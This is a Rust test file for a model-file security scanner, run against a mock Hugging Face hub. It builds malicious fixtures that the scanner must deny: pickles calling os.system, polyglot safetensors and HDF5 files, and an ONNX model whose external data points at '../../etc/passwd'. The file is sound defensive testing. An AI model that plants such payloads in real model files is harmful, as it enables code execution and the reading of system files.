fn remote_headers_reads_a_pytorch_zip_by_its_central_directory() {
    let hub = MockHub::start();
    let zip = sparse_torch_zip("pytorch_model.bin", &pickle_ordered_dict(), 2_000_000_000);
    let size = zip.size();
    hub.add(
        "model",
        "acme/torch",
        MockRepo {
            files: vec![plain("README.md", CARD), zip],
            ..MockRepo::default()
        },
    );
    let (code, r) = hub.scan_json(
        &format!("hf://acme/torch@{COMMIT}"),
        &["--remote", "headers"],
    );
    assert_eq!(code, 0, "{r:#}");
    served_fraction_ok(&hub, size);
    let f = file(&r, "pytorch_model.bin");
    assert_eq!(f["format"], "pytorch-zip", "{f:#}");
    assert_eq!(f["facts"]["coverage"]["level"], "structure", "{f:#}");
    assert_eq!(
        f["facts"]["coverage"]["unread"],
        json!(["member:archive/data/0"])
    );
    assert_eq!(f["facts"]["archive_members"], 4, "{f:#}");
    assert!(findings(&r, "ARC001").is_empty(), "{r:#}");
    // Issue 32: its storage record was not read, so the pickle is not vouched for (PKL003 stays
    // low and warns; a full scan of the same file records it at info).
    let pkl003 = findings(&r, "PKL003");
    assert_eq!(pkl003.len(), 1, "{r:#}");
    assert_eq!(pkl003[0]["severity"], "low");
    assert_eq!(pkl003[0]["action"], "warn");
    // A handful of requests: the head, the tail, the small records at the front.
    assert!(
        f["facts"]["coverage"]["requests"].as_u64().unwrap() <= 4,
        "{f:#}"
    );
}

#[test]
fn remote_headers_denies_a_malicious_pickle_inside_a_zip() {
    let hub = MockHub::start();
    let zip = sparse_torch_zip(
        "pytorch_model.bin",
        &pickle_call("os", "system", "echo pwned"),
        2_000_000_000,
    );
    let size = zip.size();
    hub.add(
        "model",
        "evil/torch",
        MockRepo {
            files: vec![plain("README.md", CARD), zip],
            ..MockRepo::default()
        },
    );
    let (code, r) = hub.scan_json(
        &format!("hf://evil/torch@{COMMIT}"),
        &["--remote", "headers"],
    );
    assert_eq!(code, 1, "{r:#}");
    served_fraction_ok(&hub, size);
    let pkl = findings(&r, "PKL001");
    assert_eq!(pkl.len(), 1, "{r:#}");
    assert_eq!(pkl[0]["path"], "pytorch_model.bin");
    assert_eq!(pkl[0]["location"]["member"], "archive/data.pkl");
    assert_eq!(pkl[0]["action"], "deny");
}

#[test]
fn remote_headers_a_file_it_cannot_judge_is_denied_not_passed() {
    let hub = MockHub::start();
    // A 500 MB legacy pickle: nothing short of a full read can judge it.
    let legacy = MockFile {
        path: "pytorch_model.bin".into(),
        lfs: true,
        lfs_oid: Some("9".repeat(64)),
        sparse: Some((500_000_000, vec![(0, pickle_ordered_dict())])),
        ..MockFile::default()
    };
    hub.add(
        "model",
        "acme/legacy",
        MockRepo {
            files: vec![plain("README.md", CARD), legacy],
            ..MockRepo::default()
        },
    );
    let (code, r) = hub.scan_json(
        &format!("hf://acme/legacy@{COMMIT}"),
        &["--remote", "headers"],
    );
    assert_eq!(code, 1, "{r:#}");
    let unread = findings(&r, "HUB003");
    assert_eq!(unread.len(), 1, "{r:#}");
    assert_eq!(unread[0]["path"], "pytorch_model.bin");
    assert_eq!(unread[0]["action"], "deny");
    assert_eq!(
        file(&r, "pytorch_model.bin")["facts"]["coverage"]["level"],
        "partial"
    );
    assert_eq!(r["repository"]["coverage"]["files_partial"], 1);
}

// ---- many repositories (`--repos-from`, `--shard`) ----

fn batch(hub: &MockHub, list: &str, extra: &[&str]) -> (i32, Vec<Value>) {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("targets.txt");
    std::fs::write(&path, list).unwrap();
    let out = modelgate()
        .args(["scan", "--repos-from", path.to_str().unwrap(), "--quiet"])
        .args(extra)
        .current_dir(dir.path())
        .env("HF_ENDPOINT", &hub.api)
        .env("HF_HOME", dir.path())
        .env("HF_TOKEN", TOKEN)
        .env_remove("HF_HUB_OFFLINE")
        .env_remove("REQUESTS_CA_BUNDLE")
        .env_remove("CURL_CA_BUNDLE")
        .env_remove("SSL_CERT_FILE")
        .output()
        .unwrap();
    let lines = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("not JSON ({e}): {l}")))
        .collect();
    (out.status.code().unwrap_or(-1), lines)
}

#[test]
fn remote_repos_from_writes_json_lines_and_shards_the_list() {
    let hub = MockHub::start();
    for name in ["acme/a", "acme/b", "acme/c"] {
        hub.add(
            "model",
            name,
            MockRepo {
                files: clean_files(),
                ..MockRepo::default()
            },
        );
    }
    let mut evil = clean_files();
    evil.push(lfs(
        "pytorch_model.bin",
        pickle_call("os", "system", "echo pwned"),
    ));
    hub.add(
        "model",
        "evil/d",
        MockRepo {
            files: evil,
            ..MockRepo::default()
        },
    );
    let list = format!(
        "# the fleet\nhf://acme/a@{COMMIT}\n\nhf://acme/b@{COMMIT}\nhf://acme/a@{COMMIT}\nhf://evil/d@{COMMIT}\nhf://acme/c@{COMMIT}\n"
    );
    let (code, all) = batch(&hub, &list, &[]);
    assert_eq!(code, 1, "{all:#?}");
    let roots: Vec<&str> = all.iter().map(|r| r["root"].as_str().unwrap()).collect();
    assert_eq!(
        roots,
        [
            format!("hf://acme/a@{COMMIT}"),
            format!("hf://acme/b@{COMMIT}"),
            format!("hf://evil/d@{COMMIT}"),
            format!("hf://acme/c@{COMMIT}"),
        ]
    );
    // Two shards partition the de-duplicated list by index: 0, 2 and 1, 3.
    let (c1, s1) = batch(&hub, &list, &["--shard", "1/2"]);
    let (c2, s2) = batch(&hub, &list, &["--shard", "2/2"]);
    let root = |v: &Vec<Value>| -> Vec<String> {
        v.iter()
            .map(|r| r["root"].as_str().unwrap().to_string())
            .collect()
    };
    assert_eq!(root(&s1), [roots[0], roots[2]]);
    assert_eq!(root(&s2), [roots[1], roots[3]]);
    assert_eq!((c1, c2), (1, 0));
    // A target that cannot be scanned is an error line, the rest still run, and the batch is 2.
    let (code, lines) = batch(
        &hub,
        &format!("hf://acme/missing@{COMMIT}\nhf://acme/a@{COMMIT}\nnot a target\n"),
        &["--remote", "headers"],
    );
    assert_eq!(code, 2);
    assert_eq!(lines.len(), 3);
    assert!(lines[0]["error"].as_str().unwrap().contains("not found"));
    assert_eq!(lines[1]["repository"]["hub"]["mode"], "headers");
    assert!(lines[2]["error"].is_string());
    assert!(!run(&["scan", "--shard", "1/2"]).status.success());
}

// ---- an untrusted server: redirects, stalls ----

#[test]
fn remote_redirect_loop_is_cut_at_the_cap() {
    let hub = MockHub::start();
    hub.add(
        "model",
        "acme/loop",
        MockRepo {
            files: clean_files(),
            ..MockRepo::default()
        },
    );
    hub.state.lock().unwrap().redirect_loop = true;
    let (code, r) = hub.scan_json(&format!("hf://acme/loop@{COMMIT}"), &[]);
    assert_eq!(code, 1, "{r:#}");
    let unreadable = findings(&r, "SCAN001");
    assert_eq!(unreadable.len(), 3, "{r:#}");
    assert!(
        unreadable[0]["message"]
            .as_str()
            .unwrap()
            .contains("more than 5 redirects"),
        "{r:#}"
    );
}

#[test]
fn remote_stalled_download_times_out() {
    let hub = MockHub::start();
    hub.add(
        "model",
        "acme/slow",
        MockRepo {
            files: clean_files(),
            ..MockRepo::default()
        },
    );
    hub.state.lock().unwrap().stall = true;
    let home = tempfile::tempdir().unwrap();
    let started = std::time::Instant::now();
    let out = modelgate()
        .args([
            "scan",
            &format!("hf://acme/slow@{COMMIT}"),
            "--format",
            "json",
            "--quiet",
        ])
        .current_dir(home.path())
        .env("HF_ENDPOINT", &hub.api)
        .env("HF_HOME", home.path())
        .env("MODELGATE_HUB_TIMEOUT_MS", "300")
        .env_remove("HF_TOKEN")
        .env_remove("HF_HUB_OFFLINE")
        .env_remove("REQUESTS_CA_BUNDLE")
        .env_remove("CURL_CA_BUNDLE")
        .env_remove("SSL_CERT_FILE")
        .output()
        .unwrap();
    assert!(
        started.elapsed() < std::time::Duration::from_secs(30),
        "{:?}",
        started.elapsed()
    );
    assert_eq!(out.status.code(), Some(1));
    let r: Value = serde_json::from_slice(&out.stdout).unwrap();
    let unreadable = findings(&r, "SCAN001");
    assert_eq!(unreadable.len(), 3, "{r:#}");
}

// ---- issue 20: random-access formats and polyglots, remotely ----

fn fixture_bytes(rel: &str) -> Vec<u8> {
    std::fs::read(format!(
        "{}/tests/fixtures/{rel}",
        env!("CARGO_MANIFEST_DIR")
    ))
    .unwrap()
}

/// Over `POSITIONED_MEMORY_BYTES` (16 MiB): a full scan streams it for the digest and reads its
/// structures with range requests.
const BIG: usize = 17 << 20;

fn padded(mut bytes: Vec<u8>, to: usize) -> Vec<u8> {
    bytes.resize(to, 0);
    bytes
}

/// A safetensors file with `data_len` bytes of tensor data and a pickle appended after it.
fn safetensors_with_pickle(data_len: usize) -> (Vec<u8>, usize) {
    let n = data_len / 4;
    let header = format!(
        r#"{{"w":{{"dtype":"F32","shape":[{n}],"data_offsets":[0,{}]}}}}"#,
        n * 4
    );
    let mut bytes = (header.len() as u64).to_le_bytes().to_vec();
    bytes.extend(header.as_bytes());
    bytes.resize(bytes.len() + n * 4, 0);
    let end = bytes.len();
    bytes.extend(b"\x80\x02");
    bytes.extend(pickle_call("os", "system", "id"));
    (bytes, end)
}

/// A Keras 2 `.h5` with a Lambda layer, a TFLite file with a Flex `ReadFile` op and a
/// safetensors file with a pickle after its data, each small (read from memory in a full
/// scan) and large (read by range requests in both modes).
fn random_access_files() -> Vec<MockFile> {
    let h5 = fixture_bytes("hdf5/keras2_lambda.h5");
    let tflite = fixture_bytes("tflite/flex_readfile.tflite");
    let (poly_small, _) = safetensors_with_pickle(4096);
    let (poly_big, _) = safetensors_with_pickle(BIG);
    vec![
        plain("README.md", CARD),
        lfs("big/model.h5", padded(h5.clone(), BIG)),
        lfs("big/model.safetensors", poly_big),
        lfs("big/model.tflite", padded(tflite.clone(), BIG)),
        lfs("small/model.h5", h5),
        lfs("small/model.safetensors", poly_small),
        lfs("small/model.tflite", tflite),
    ]
}

/// (rule, path) of every file finding, sorted: what a remote scan must share with a local one.
fn file_rules(r: &Value) -> Vec<(String, String)> {
    let mut out: Vec<(String, String)> = r["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["path"] != "")
        .map(|f| {
            (
                f["rule"].as_str().unwrap().to_string(),
                f["path"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    out.sort();
    out
}

#[test]
fn issue_20_hdf5_tflite_and_polyglots_remotely_match_the_local_scan_in_both_modes() {
    let files = random_access_files();
    let repo = Repo::new();
    for f in &files {
        repo.file(&f.path, &f.bytes);
    }
    let (lcode, local) = scan_json(repo.path(), &[]);
    assert_eq!(lcode, 1);
    let want = file_rules(&local);
    for (rule, path) in [
        ("FMT003", "big/model.h5"),
        ("FMT003", "small/model.h5"),
        ("FMT006", "big/model.tflite"),
        ("FMT006", "small/model.tflite"),
        ("FMT001", "big/model.safetensors"),
        ("PKL001", "big/model.safetensors"),
        ("FMT001", "small/model.safetensors"),
    ] {
        assert!(
            want.contains(&(rule.to_string(), path.to_string())),
            "local scan lacks {rule} on {path}: {want:?}"
        );
    }

    let hub = MockHub::start();
    hub.add(
        "model",
        "acme/random",
        MockRepo {
            files: files.clone(),
            ..MockRepo::default()
        },
    );
    let total: u64 = files.iter().map(MockFile::size).sum();
    let target = format!("hf://acme/random@{COMMIT}");

    let (code, full) = hub.scan_json(&target, &[]);
    assert_eq!(code, 1, "{full:#}");
    assert_eq!(file_rules(&full), want, "full mode");
    let full_bytes = hub.state.lock().unwrap().cdn_bytes;
    // Streamed once, plus the positioned reads of the three large files.
    let extra = full_bytes - total;
    assert!(
        extra < 3 << 20,
        "full mode fetched {extra} bytes besides the files"
    );
    for path in ["big/model.h5", "big/model.tflite", "big/model.safetensors"] {
        let cov = &file(&full, path)["facts"]["coverage"];
        assert_eq!(cov["mode"], "full", "{path}: {cov:#}");
        assert_eq!(cov["level"], "complete", "{path}: {cov:#}");
        assert!(
            cov["positioned"]["requests"].as_u64().unwrap() > 0,
            "{cov:#}"
        );
    }
    // Small files are inspected from the streamed bytes: no range request, no coverage fact.
    assert!(file(&full, "small/model.h5")["facts"]["coverage"].is_null());
    assert_eq!(file(&full, "small/model.h5")["format"], "keras");

    hub.state.lock().unwrap().cdn_bytes = 0;
    let (code, headers) = hub.scan_json(&target, &["--remote", "headers"]);
    assert_eq!(code, 1, "{headers:#}");
    assert_eq!(file_rules(&headers), want, "header mode");
    let header_bytes = hub.state.lock().unwrap().cdn_bytes;
    assert!(
        header_bytes * 20 < total,
        "header mode fetched {header_bytes} of {total} bytes"
    );
    for (path, check) in [
        ("big/model.h5", "hdf5"),
        ("big/model.tflite", "tflite"),
        ("big/model.safetensors", "polyglot"),
    ] {
        let cov = &file(&headers, path)["facts"]["coverage"];
        assert_eq!(cov["level"], "structure", "{path}: {cov:#}");
        assert_eq!(
            cov["positioned"]["checks"],
            json!([check]),
            "{path}: {cov:#}"
        );
    }
    assert!(findings(&headers, "HUB003").is_empty(), "{headers:#}");
    if std::env::var_os("MODELGATE_TEST_MEASURE").is_some() {
        // A measurement on request (the report quotes it): fail with the numbers.
        panic!(
            "issue 20 bytes: files {total}, full {full_bytes} (+{extra}), headers {header_bytes}"
        );
    }
}

#[test]
fn issue_20_hdf5_in_safetensors_polyglot_is_denied_remotely() {
    // A tiny HDF5 file placed at the 1 MiB user-block boundary inside the tensor data of a
    // large safetensors file: h5py opens the renamed file as that HDF5 model.
    let h5 = fixture_bytes("hdf5/keras2_lambda.h5");
    let (mut bytes, _) = safetensors_with_pickle(BIG);
    bytes.truncate(bytes.len() - pickle_call("os", "system", "id").len() - 2);
    bytes[1 << 20..(1 << 20) + h5.len()].copy_from_slice(&h5);
    let hub = MockHub::start();
    hub.add(
        "model",
        "acme/poly",
        MockRepo {
            files: vec![plain("README.md", CARD), lfs("model.safetensors", bytes)],
            ..MockRepo::default()
        },
    );
    for extra in [&[][..], &["--remote", "headers"][..]] {
        let (code, r) = hub.scan_json(&format!("hf://acme/poly@{COMMIT}"), extra);
        assert_eq!(code, 1, "{extra:?}: {r:#}");
        let f: Vec<_> = findings(&r, "FMT001")
            .into_iter()
            .filter(|f| f["evidence"]["polyglot"] == "hdf5")
            .collect();
        assert_eq!(f.len(), 1, "{extra:?}: {r:#}");
        assert_eq!(f[0]["action"], "deny");
        assert_eq!(f[0]["evidence"]["offset"], (1u64 << 20).to_string());
    }
}

#[test]
fn issue_20_a_cdn_that_ignores_range_is_a_finding_not_a_hang_or_a_pass() {
    let hub = MockHub::start();
    let h5 = padded(fixture_bytes("hdf5/keras2_lambda.h5"), BIG);
    hub.add(
        "model",
        "acme/norange",
        MockRepo {
            files: vec![plain("README.md", CARD), lfs("model.h5", h5)],
            ..MockRepo::default()
        },
    );
    hub.state.lock().unwrap().ignore_range = true;
    let (code, r) = hub.scan_json(&format!("hf://acme/norange@{COMMIT}"), &[]);
    assert_eq!(code, 1, "{r:#}");
    // Streamed once for its digest (checked against the Hub's), but its structure could not be
    // read: SCAN001 names the check, and the coverage fact says it was not done.
    let f = file(&r, "model.h5");
    assert_eq!(f["facts"]["hub"]["digest_source"], "computed");
    assert!(findings(&r, "HUB001").is_empty(), "{r:#}");
    let stop: Vec<_> = findings(&r, "SCAN001")
        .into_iter()
        .filter(|d| d["evidence"]["check"] == "hdf5")
        .collect();
    assert_eq!(stop.len(), 1, "{r:#}");
    assert_eq!(stop[0]["action"], "deny");
    assert_eq!(f["facts"]["coverage"]["level"], "partial", "{f:#}");
    assert_eq!(
        f["facts"]["coverage"]["not_checked"],
        json!(["hdf5"]),
        "{f:#}"
    );
    // The stream, the first block (a 200 is usable at offset 0), one refused range: no more.
    let cdn = hub
        .log()
        .iter()
        .filter(|(host, path, _)| *host == "cdn" && path.ends_with("/model.h5"))
        .count();
    assert_eq!(cdn, 3, "{:?}", hub.log());
}

// ---- TLS: custom trust roots, and the https-to-http downgrade end to end ----

fn tls_fixture(name: &str) -> String {
    format!("{}/tests/fixtures/tls/{name}", env!("CARGO_MANIFEST_DIR"))
}

/// The server side of the TLS mock: the test-only certificate for 127.0.0.1, issued by the
/// test CA in tests/fixtures/tls (see its README), with the ring provider ureq already uses.
fn server_tls_config() -> Arc<rustls::ServerConfig> {
    use rustls::pki_types::pem::PemObject;
    use rustls::pki_types::{CertificateDer, PrivateKeyDer};
    let certs = CertificateDer::pem_file_iter(tls_fixture("server.pem"))
        .unwrap()
        .collect::<Result<Vec<_>, _>>()
        .unwrap();
    let key = PrivateKeyDer::from_pem_file(tls_fixture("server.key")).unwrap();
    let config = rustls::ServerConfig::builder_with_provider(Arc::new(
        rustls::crypto::ring::default_provider(),
    ))
    .with_safe_default_protocol_versions()
    .unwrap()
    .with_no_client_auth()
    .with_single_cert(certs, key)
    .unwrap();
    Arc::new(config)
}

/// An https front on 127.0.0.1 for one of the mock's plain hosts (`http://127.0.0.1:P`): it
/// terminates TLS, hands the request head to the host and relays its answer (the mock answers
/// one GET per connection and closes). Returns the front's `https://` base URL.
fn tls_front(backend: &str) -> String {
    let backend = backend.trim_start_matches("http://").to_string();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let base = format!("https://{}", listener.local_addr().unwrap());
    let config = server_tls_config();
    thread::spawn(move || {
        for tcp in listener.incoming().flatten() {
            let (config, backend) = (Arc::clone(&config), backend.clone());
            // A handshake the client refuses ends here, before the host sees anything.
            thread::spawn(move || relay_tls(tcp, config, &backend));
        }
    });
    base
}

fn relay_tls(
    tcp: TcpStream,
    config: Arc<rustls::ServerConfig>,
    backend: &str,
) -> std::io::Result<()> {
    use std::io::Read;
    let conn = rustls::ServerConnection::new(config).map_err(std::io::Error::other)?;
    let mut tls = rustls::StreamOwned::new(conn, tcp);
    let mut head = Vec::new();
    let mut buf = [0u8; 4096];
    while !head.windows(4).any(|w| w == b"\r\n\r\n") {
        let n = tls.read(&mut buf)?;
        if n == 0 {
            return Ok(());
        }
        head.extend_from_slice(&buf[..n]);
    }
    let mut host = TcpStream::connect(backend)?;
    host.write_all(&head)?;
    let mut answer = Vec::new();
    host.read_to_end(&mut answer)?;
    tls.write_all(&answer)?;
    tls.conn.send_close_notify();
    tls.flush()
}

fn tls_hub(repo: &str) -> (MockHub, String) {
    let hub = MockHub::start();
    hub.add(
        "model",
        repo,
        MockRepo {
            files: clean_files(),
            ..MockRepo::default()
        },
    );
    let api = tls_front(&hub.api);
    (hub, api)
}

#[test]
fn remote_scan_over_tls_with_a_private_ca_bundle() {
    let (hub, api) = tls_hub("acme/tls");
    let cdn = tls_front(&hub.cdn);
    hub.state.lock().unwrap().cdn_base = Some(cdn);
    let bundle = [("REQUESTS_CA_BUNDLE", tls_fixture("ca.pem"))];
    let target = format!("hf://acme/tls@{COMMIT}");
    let (code, out, err) = hub.scan_via(&api, &target, &[], true, &bundle);
    assert_eq!(code, 0, "{err}\n{out}");
    let r: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(r["repository"]["hub"]["endpoint"], api.as_str(), "{r:#}");
    assert_eq!(r["repository"]["hub"]["commit"], COMMIT);
    assert_eq!(r["files"].as_array().unwrap().len(), 3, "{r:#}");
    assert!(findings(&r, "SCAN001").is_empty(), "{r:#}");
    // Every file came from the CDN over TLS; the token went to the API origin only.
    let log = hub.log();
    assert_eq!(
        log.iter().filter(|(h, ..)| *h == "cdn").count(),
        3,
        "{log:?}"
    );
    assert!(
        log.iter().all(|(h, _, auth)| (*h == "api") == *auth),
        "{log:?}"
    );

    // OpenSSL's variable works the same, here with header mode's range reads.
    let bundle = [("SSL_CERT_FILE", tls_fixture("ca.pem"))];
    let (code, out, err) = hub.scan_via(&api, &target, &["--remote", "headers"], true, &bundle);
    assert_eq!(code, 0, "{err}\n{out}");
}

#[test]
fn remote_tls_without_the_ca_bundle_is_a_certificate_error() {
    let (hub, api) = tls_hub("acme/tls");
    let started = std::time::Instant::now();
    let (code, out, err) = hub.scan_via(&api, &format!("hf://acme/tls@{COMMIT}"), &[], true, &[]);
    assert_eq!(code, 2, "{err}\n{out}");
    assert!(err.contains("TLS handshake failed"), "{err}");
    assert!(err.contains("certificate"), "{err}");
    // The message says how to add a private CA, and never shows the token.
    assert!(err.contains("REQUESTS_CA_BUNDLE"), "{err}");
    assert!(!err.contains(TOKEN) && !out.contains(TOKEN));
    // Not retried with back-off (a certificate does not get better), and nothing was sent.
    assert!(
        started.elapsed() < std::time::Duration::from_secs(5),
        "{:?}",
        started.elapsed()
    );
    assert!(hub.log().is_empty(), "{:?}", hub.log());
}

#[test]
fn remote_tls_unusable_ca_bundle_is_a_tool_error() {
    let (hub, api) = tls_hub("acme/tls");
    let target = format!("hf://acme/tls@{COMMIT}");
    let dir = tempfile::tempdir().unwrap();
    let garbage = dir.path().join("garbage.pem");
    std::fs::write(&garbage, "not a bundle\n").unwrap();
    let missing = dir.path().join("missing.pem").display().to_string();
    for (var, path, says) in [
        ("REQUESTS_CA_BUNDLE", missing, "cannot use the CA bundle"),
        (
            "CURL_CA_BUNDLE",
            garbage.display().to_string(),
            "no PEM certificate",
        ),
        // A private key is not a trust root.
        (
            "SSL_CERT_FILE",
            tls_fixture("server.key"),
            "no PEM certificate",
        ),
    ] {
        let (code, out, err) = hub.scan_via(&api, &target, &[], true, &[(var, path)]);
        assert_eq!(code, 2, "{var}: {err}\n{out}");
        assert!(err.contains(says) && err.contains(var), "{var}: {err}");
    }
    assert!(hub.log().is_empty(), "{:?}", hub.log());
    // The first variable set wins: a good REQUESTS_CA_BUNDLE, a broken SSL_CERT_FILE.
    let env = [
        ("REQUESTS_CA_BUNDLE", tls_fixture("ca.pem")),
        ("SSL_CERT_FILE", garbage.display().to_string()),
    ];
    let (code, _, err) = hub.scan_via(&api, &target, &[], true, &env);
    // Resolves and lists over TLS; the downloads then hit the plain-http CDN and are refused.
    assert_eq!(code, 1, "{err}");
}

#[test]
fn remote_https_endpoint_redirecting_to_http_is_refused_and_the_token_stays() {
    // The API is served over TLS, and `resolve` redirects to the plain-http CDN on another
    // loopback port: a downgrade. Each download is refused (SCAN001, denied), and the http
    // host never sees a request, so neither the token nor anything else travels in clear.
    let (hub, api) = tls_hub("acme/tls");
    let bundle = [("REQUESTS_CA_BUNDLE", tls_fixture("ca.pem"))];
    let (code, out, err) =
        hub.scan_via(&api, &format!("hf://acme/tls@{COMMIT}"), &[], true, &bundle);
    assert_eq!(code, 1, "{err}\n{out}");
    let r: Value = serde_json::from_str(&out).unwrap();
    let refused = findings(&r, "SCAN001");
    assert_eq!(refused.len(), 3, "{r:#}");
    for f in &refused {
        assert_eq!(f["action"], "deny", "{f:#}");
        let m = f["message"].as_str().unwrap();
        assert!(m.contains("https to http downgrade"), "{m}");
    }
    let log = hub.log();
    assert!(log.iter().all(|(h, ..)| *h == "api"), "{log:?}");
    assert_eq!(hub.state.lock().unwrap().cdn_bytes, 0);
    assert!(!out.contains(TOKEN) && !err.contains(TOKEN));
    // Header mode's range reads take the same path.
    let (code, out, _) = hub.scan_via(
        &api,
        &format!("hf://acme/tls@{COMMIT}"),
        &["--remote", "headers"],
        true,
        &bundle,
    );
    assert_eq!(code, 1, "{out}");
    assert!(hub.log().iter().all(|(h, ..)| *h == "api"));
}

// ---- issue 20: ONNX in header mode ----

/// Protobuf wire pieces for the ONNX and TensorFlow builders below.
fn varint(out: &mut Vec<u8>, mut v: u64) {
    while v >= 0x80 {
        out.push((v as u8) | 0x80);
        v >>= 7;
    }
    out.push(v as u8);
}

/// A length-delimited field's tag and length, for a body of `len` bytes written after it.
fn tag_len(n: u64, len: u64) -> Vec<u8> {
    let mut out = Vec::new();
    varint(&mut out, n << 3 | 2);
    varint(&mut out, len);
    out
}

/// A length-delimited field.
fn field(n: u64, body: &[u8]) -> Vec<u8> {
    let mut out = tag_len(n, body.len() as u64);
    out.extend_from_slice(body);
    out
}

/// An ONNX model: a custom-domain node, an inline initializer of `payload` zero bytes, then a
/// tensor whose external data escapes the repository. Returns the bytes before the payload and
/// the bytes after it.
fn onnx_parts(payload: u64) -> (Vec<u8>, Vec<u8>) {
    fn int(n: u64, v: u64) -> Vec<u8> {
        let mut out = Vec::new();
        varint(&mut out, n << 3);
        varint(&mut out, v);
        out
    }
    let node = field(1, &[field(4, b"Steal"), field(7, b"com.evil.ops")].concat());
    let name = field(2, b"main");
    let big_head = [
        int(1, payload / 4),
        int(2, 1),
        field(8, b"big"),
        tag_len(9, payload),
    ]
    .concat();
    let big = [tag_len(5, big_head.len() as u64 + payload), big_head].concat();
    let location = [field(1, b"location"), field(2, b"../../etc/passwd")].concat();
    let external = field(
        5,
        &[
            int(1, 4),
            int(2, 1),
            field(8, b"ext"),
            field(13, &location),
            int(14, 1),
        ]
        .concat(),
    );
    let graph_len = (node.len() + name.len() + big.len() + external.len()) as u64 + payload;
    let prefix = [
        int(1, 8),
        field(2, b"pytorch"),
        tag_len(7, graph_len),
        node,
        name,
        big,
    ]
    .concat();
    let opset = field(8, &[field(1, b"com.evil.ops"), int(2, 1)].concat());
    (prefix, [external, opset].concat())
}

/// A `saved_model.pb` whose graph holds a `Const` node with `payload` zero bytes of attribute
/// data, then a `PyFunc` node. Returns the bytes before the payload and the bytes after it.
fn saved_model_parts(payload: u64) -> (Vec<u8>, Vec<u8>) {
    let const_head = [field(1, b"w"), field(2, b"Const"), tag_len(5, payload)].concat();
    let constant_head = [tag_len(1, const_head.len() as u64 + payload), const_head].concat();
    let pyfunc = field(1, &[field(1, b"cb"), field(2, b"PyFunc")].concat());
    let graph_len = (constant_head.len() + pyfunc.len()) as u64 + payload;
    let tags = field(1, b"\x0a\x05serve");
    let graph_tag = tag_len(2, graph_len);
    let meta_len = (tags.len() + graph_tag.len()) as u64 + graph_len;
    let prefix = [
        vec![0x08, 0x01],
        tag_len(2, meta_len),
        tags,
        graph_tag,
        constant_head,
    ]
    .concat();
    (prefix, pyfunc)
}

/// `name` built by `parts` (the bytes before and after a payload of N zero bytes): scanned
/// locally with a 1 MiB payload (which must give `rule`), then as a 3 GB file on the mock Hub in
/// header mode, whose payload is never served. Asserts the same rules per file and that a small
/// fraction was fetched; returns (local report, remote report, the hub, the remote size).
fn header_mode_matches_local(
    name: &str,
    rule: &str,
    parts: fn(u64) -> (Vec<u8>, Vec<u8>),
) -> (Value, Value, MockHub, u64) {
    let (prefix, suffix) = parts(1 << 20);
    let repo = Repo::new();
    repo.file("README.md", CARD);
    repo.file(name, [prefix, vec![0u8; 1 << 20], suffix].concat());
    let (lcode, local) = scan_json(repo.path(), &[]);
    assert_eq!(lcode, 1, "{local:#}");
    let want = file_rules(&local);
    assert!(
        want.contains(&(rule.to_string(), name.to_string())),
        "{want:?}"
    );

    let payload = 3_000_000_000;
    let (prefix, suffix) = parts(payload);
    let at = prefix.len() as u64 + payload;
    let size = at + suffix.len() as u64;
    let hub = MockHub::start();
    hub.add(
        "model",
        "acme/big",
        MockRepo {
            files: vec![
                plain("README.md", CARD),
                MockFile {
                    path: name.into(),
                    lfs: true,
                    lfs_oid: Some("6".repeat(64)),
                    sparse: Some((size, vec![(0, prefix), (at, suffix)])),
                    ..MockFile::default()
                },
            ],
            ..MockRepo::default()
        },
    );
    let (code, r) = hub.scan_json(&format!("hf://acme/big@{COMMIT}"), &["--remote", "headers"]);
    assert_eq!(code, 1, "{r:#}");
    assert_eq!(file_rules(&r), want, "header mode");
    served_fraction_ok(&hub, size);
    (local, r, hub, size)
}

#[test]
fn issue_20_tf_saved_model_is_inspected_in_header_mode_without_its_constants() {
    let (local, r, _, _) = header_mode_matches_local("saved_model.pb", "FMT006", saved_model_parts);
    let f = file(&r, "saved_model.pb");
    assert_eq!(
        f["facts"]["tf"],
        file(&local, "saved_model.pb")["facts"]["tf"]
    );
    assert_eq!(f["facts"]["coverage"]["level"], "structure", "{f:#}");
}

#[test]
fn issue_20_onnx_is_inspected_in_header_mode_without_its_tensor_data() {
    let (local, r, hub, size) = header_mode_matches_local("model.onnx", "FMT004", onnx_parts);
    let f = file(&r, "model.onnx");
    assert_eq!(f["format"], "onnx");
    assert_eq!(
        f["facts"]["onnx"],
        file(&local, "model.onnx")["facts"]["onnx"]
    );
    let cov = &f["facts"]["coverage"];
    assert_eq!(cov["level"], "structure", "{cov:#}");
    assert_eq!(cov["positioned"]["checks"], json!(["polyglot"]), "{cov:#}");
    assert!(
        !cov["not_checked"]
            .as_array()
            .unwrap()
            .contains(&json!("polyglot")),
        "{cov:#}"
    );
    if std::env::var_os("MODELGATE_TEST_MEASURE").is_some() {
        panic!(
            "onnx header mode: {} of {size} bytes, {} requests",
            hub.state.lock().unwrap().cdn_bytes,
            cov["requests"]
        );
    }
}
